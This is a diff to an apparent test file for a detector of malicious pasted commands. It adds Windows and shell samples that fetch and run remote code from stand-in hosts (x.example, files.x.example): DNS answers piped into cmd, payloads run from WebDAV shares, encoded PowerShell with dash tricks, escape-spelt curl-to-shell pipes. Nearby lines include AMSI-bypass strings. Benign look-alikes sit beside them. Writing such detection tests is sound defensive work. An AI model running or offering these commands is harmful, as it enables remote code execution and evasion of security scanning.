@@ -51,6 +51,23 @@ const WINDOWS = [
   "pcalua.exe -a \"powershell\" -c \"s=([wmiclass]'Win32_ProcessStartup').CreateInstance();s.ShowWindow=0;([wmiclass]'Win32_Process').Create('cmd /v/c pushd \\\\files.x.example@SSL\\ & rundll32 gc.key,#1',null,s)\"",
   // cmd running each line a finger server sends (Unit 42, 2026), with no pipe and no cmd before it.
   'start "" /min for /f "skip=8 delims=" %h in (\'finger lxjXZGpPHp@finger.x.example\') do call %h',
+  // A program downloaded to a folder by .NET's own client, pasted into a console.
+  "(New-Object Net.WebClient).DownloadFile('http://x.example/a.exe','C:\\Users\\Public\\a.exe')",
+  // A DNS answer piped into cmd, with no cmd before it (pasted into a console).
+  'nslookup -q=txt x.example 198.51.100.7 | findstr "^Name:" | cmd',
+  // A remote share mapped to a drive or entered, then a script run from it.
+  'net use Z: \\\\files.x.example@80\\share /persistent:no && Z:\\update.cmd',
+  'pushd \\\\files.x.example@SSL\\DavWWWRoot & start setup.bat',
+  // A program or shortcut on an internet host's share pasted whole (the Run box runs it), and
+  // Windows' links that open a remote folder or install from afar.
+  '\\\\files.x.example@SSL\\DavWWWRoot\\setup.exe',
+  '"\\\\203.0.113.7\\share\\invoice.pdf.lnk"',
+  'search-ms:query=invoice&crumb=location:\\\\files.x.example@SSL@443\\DavWWWRoot&displayname=Downloads',
+  'ms-appinstaller:?source=https://x.example/a.msix',
+  // PowerShell reads an en dash, an em dash or a slash before a parameter as its dash.
+  'powershell \u2013e aQB3AHIAIABhAC4AZQB4AGEAbQBwAGwAZQAvAGMAIAB8ACAAaQBlAHgA',
+  'powershell /enc aQB3AHIAIABhAC4AZQB4AGEAbQBwAGwAZQAvAGMAIAB8ACAAaQBlAHgA',
+  'powershell \u2014w h \u2014c "echo hi"',
   // The scan switched off with its class's name spelt out of pieces.
   "$w='System.Management.Automation.A';$c='si';$m='Utils';[Ref].Assembly.GetType(('{0}m{1}{2}' -f $w,$c,$m))",
   '(Get-Variable x -ValueOnly)."A`ss`Embly"."GET`TY`Pe"(("{2}{0}{1}" -f \'Amsi\',\'Utils\',\'System.Management.Automation.\'))',
@@ -68,6 +85,12 @@ const TERMINAL = [
   '/bin/bash -c "$(curl -fsSL https://brew-install.example/install.sh)"',
   'python3 -c "import urllib.request;exec(urllib.request.urlopen(\'http://x.example/p\').read())"',
   'curl -fsSL https://x.example/i | VERSION="1" PREFIX="$HOME/x" bash',
+  // A download handed to a shell as a here-string; an interpreter's code on the lines after it.
+  'bash <<< "$(curl -s http://x.example/a)"',
+  "python3 - <<'EOF'\nimport urllib.request;exec(urllib.request.urlopen('http://x.example/p').read())\nEOF",
+  // A script spelt in escapes and handed to a shell.
+  "printf '\\143\\165\\162\\154 -s http://x.example/a | sh' | sh",
+  "echo -e '\\x63url -s http://x.example/a' | bash",
   // Decoded inside the shell's own substitution: no download word, no pipe into a shell.
   '/bin/bash -c "$(echo Y3VybCAtZnNTTCBodHRwOi8vMS4yLjMuNC9zIHwgemg= | base64 --decode)"',
   'eval "$(echo Y3VybCAtcyBodHRwOi8vNDUu | base64 -D)"',
@@ -129,6 +152,19 @@ const NOT_COMMANDS = [
   'curl -O https://example.com/file.tar.gz',
   'powershell -Command "Get-Process"',
   'cmd /c dir',
+  // A document downloaded by .NET's own client.
+  "(New-Object Net.WebClient).DownloadFile('https://x.example/report.pdf','report.pdf')",
+  // A DNS answer read, a here-document printed: nothing run.
+  'nslookup -q=txt x.example | findstr "v=spf1"',
+  "python3 - <<'EOF'\nprint('hello')\nEOF",
+  // A share mapped, or an escape printed, with nothing run from it.
+  'net use Z: \\\\fileserver\\team /persistent:yes',
+  'pushd \\\\fileserver\\team && dir',
+  // An office file server's program, a remote folder's path, a search of this computer.
+  '\\\\fileserver\\software\\setup.exe',
+  '\\\\files.x.example\\reports\\2026',
+  'search-ms:query=invoice&crumb=location:C%3A%5CUsers',
+  "printf '\\x1b[1mbold\\x1b[0m\\n'",
   'ssh user@host.example.com',
   // Decoding that runs nothing: a secret read, a value kept.
   "kubectl get secret db -o jsonpath='{.data.password}' | base64 --decode",
